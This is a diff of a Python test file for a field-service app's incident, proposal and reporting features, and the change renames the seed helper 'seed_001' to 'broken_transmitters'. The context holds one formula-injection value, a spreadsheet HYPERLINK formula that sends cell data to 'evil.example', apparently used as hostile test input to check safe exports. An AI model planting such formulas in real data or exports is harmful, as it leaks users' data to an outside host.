@@ -3,7 +3,7 @@ with tax at 6.25 %. The period asked for is 1 January to 30 June 2026.
 
 Team A (Sara Supervisor's); times UTC, each step after the one before:
 
-- i1, seed 001 (Northwind Pharma, recorded by Tom, our technician): reported 10 Jan
+- i1, the broken transmitters (Northwind Pharma, recorded by Tom, our technician): reported 10 Jan
   14:00, sent +2 h, accepted +24 h (11 Jan), resolved +24 h.
 - i2 (=HYPERLINK…, Tom, third party): reported 27 Feb 12:00, sent +4 h, accepted 1 Mar
   03:00 = 28 Feb 22:00 in New York (+35 h); not resolved.
@@ -41,7 +41,7 @@ from fieldsvc.portal.models import CustomerResponse, ResponseKind, StatusLink
 from fieldsvc.portal.services import Answer, Visitor, respond
 from fieldsvc.proposals.models import Proposal, ProposalRevision, RevisionStatus
 from fieldsvc.reports.services import Period
-from tests.proposals.seed_001 import build_seed_001, send
+from tests.proposals.broken_transmitters import build_broken_transmitters, send
 
 PERIOD = Period(date(2026, 1, 1), date(2026, 6, 30))
 FORMULA_CUSTOMER = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -143,10 +143,10 @@ class KnownData:
     incidents: dict[str, Incident]
 
 
-def _accept_seed_001(other: str = "") -> tuple:
-    """Seed 001 the whole way through the services: approved, sent with its frozen
+def _accept_broken_transmitters(other: str = "") -> tuple:
+    """The broken transmitters the whole way through the services: approved, sent with its frozen
     figures, and accepted by Dana on the status page."""
-    seed = build_seed_001(other=other)
+    seed = build_broken_transmitters(other=other)
     token = send(seed)
     revision = seed.revision
     # Loaded first, as the status page has them: respond() builds the answer before
@@ -165,7 +165,7 @@ def _accept_seed_001(other: str = "") -> tuple:
 
 @pytest.fixture
 def known_data(app, company_time, make_user, make_incident, make_offer) -> KnownData:
-    seed, revision, response = _accept_seed_001()
+    seed, revision, response = _accept_broken_transmitters()
     i1 = seed.incident
     change_status(i1, IncidentStatus.RESOLVED, actor=seed.supervisor, note="Replaced both")
     # Into the period: the figures stay as frozen when it was sent.
@@ -255,7 +255,7 @@ def known_data(app, company_time, make_user, make_incident, make_offer) -> Known
         i5.status, i5.resolved_at = IncidentStatus.CLOSED, utc(5, 1, 10)
         # Resolved once, then reopened: it keeps the old resolved_at.
         i6.status, i6.resolved_at = IncidentStatus.OPEN, utc(5, 2, 5)
-    other = build_seed_001(with_proposal=False, other="B ")
+    other = build_broken_transmitters(with_proposal=False, other="B ")
     i8 = make_incident(
         actor=other.technician,
         site=other.customer.sites[0],
